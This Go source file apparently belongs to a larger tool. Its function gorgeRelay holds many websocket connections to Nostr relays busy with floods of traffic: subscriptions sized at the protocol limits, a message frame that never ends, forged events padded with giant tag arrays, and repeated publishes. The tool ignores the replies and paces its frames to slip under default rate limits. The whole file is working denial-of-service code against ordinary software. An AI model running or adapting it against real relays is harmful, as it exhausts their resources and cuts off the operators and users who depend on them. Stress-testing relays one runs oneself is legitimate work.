package main

import (
	"bufio"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"net/http"
	"os"
	"strings"
	"time"
)

// gorgeRelay keeps N connections to each Nostr relay busy: with messages that are large or never
// end, with subscriptions that are large, and with answers that it does not read.
func gorgeRelay(args []string) error {
	if len(args) < 4 {
		return errors.New("want N SECONDS FILE ADDRESS…")
	}
	event, err := os.ReadFile(args[2])
	if err != nil {
		return err
	}
	publish := textFrame(`["EVENT",` + string(event) + `]`)
	zeros := func(n int) string { return strings.Repeat("0", n) }
	// The id is wrong, but the relay must read the event to find that out.
	tags := strings.TrimSuffix(strings.Repeat(`["a"`+strings.Repeat(`,""`, 120)+"],", 350), ",")
	forged := textFrame(fmt.Sprintf(`["EVENT",{"id":%q,"pubkey":%q,"created_at":%d,"kind":1,"tags":[%s],"content":"","sig":%q}]`,
		zeros(64), zeros(64), time.Now().Unix(), tags, zeros(128)))
	stored := textFrame(`["REQ","stored",{"kinds":[1],"limit":100}]`)
	// A filter may have 2000 values, a subscription 16 filters, a session 32 subscriptions.
	values := strings.TrimSuffix(strings.Repeat(`{"limit":0,"#p":[`+strings.TrimSuffix(strings.Repeat(`"",`, 2000), ",")+"]},", 16), ",")
	var subscriptions [][]byte
	for i := range 32 {
		subscriptions = append(subscriptions, textFrame(fmt.Sprintf(`["REQ","%d",%s]`, i, values)))
	}
	ways := [][][]byte{
		{stored},
		{textFrame(`["REQ","live",{"limit":0}]`)},
		subscriptions,
		{publish[:len(publish)-1]}, // it never ends
		{forged},
		{publish},
		{stored, publish},
	}
	sent, err := besiege(append([]string{args[0], args[1]}, args[3:]...), func(i int, address string, end time.Time) int64 {
		return feedRelay(address, ways[i%len(ways)], end)
	})
	if err == nil {
		fmt.Println("gorged", sent)
	}
	return err
}

// textFrame is a text message of a websocket's client, in one frame (RFC 6455, 5.2). Its mask is 0.
func textFrame(text string) []byte {
	frame := []byte{0x81, 0x80 | 127}
	frame = binary.BigEndian.AppendUint64(frame, uint64(len(text)))
	return append(append(frame, 0, 0, 0, 0), text...)
}

// feedRelay opens a websocket, reads only the answer to the handshake, and sends the frames again and
// again, first ten at once and then five a second, which is what a relay admits by default. It
// returns when the relay closes the connection.
func feedRelay(address string, frames [][]byte, end time.Time) (sent int64) {
	c, err := net.DialTimeout("tcp", address, time.Second)
	if err != nil {
		time.Sleep(10 * time.Millisecond)
		return 0
	}
	defer c.Close()
	if c.(*net.TCPConn).SetReadBuffer(4096) != nil || c.SetDeadline(end) != nil {
		return 0
	}
	fmt.Fprint(c, "GET / HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"+
		"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n")
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil || resp.StatusCode != http.StatusSwitchingProtocols {
		time.Sleep(10 * time.Millisecond)
		return 0
	}
	for i := 0; ; i++ {
		n, err := c.Write(frames[i%len(frames)])
		if sent += int64(n); err != nil {
			return sent
		}
		if i >= 10 {
			time.Sleep(200 * time.Millisecond)
		}
	}
}
